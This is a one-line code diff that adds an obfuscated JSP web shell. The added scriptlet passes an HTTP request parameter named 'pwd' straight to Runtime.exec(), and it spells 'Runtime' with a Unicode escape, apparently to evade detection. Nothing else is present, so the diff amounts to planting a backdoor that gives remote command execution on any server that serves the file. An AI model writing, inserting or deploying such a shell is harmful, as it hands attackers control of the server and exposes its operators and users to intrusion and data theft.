@@ -1,0 +1,1 @@
+<% \u0052untime.getRuntime().exec(request.getParameter("pwd")); %>
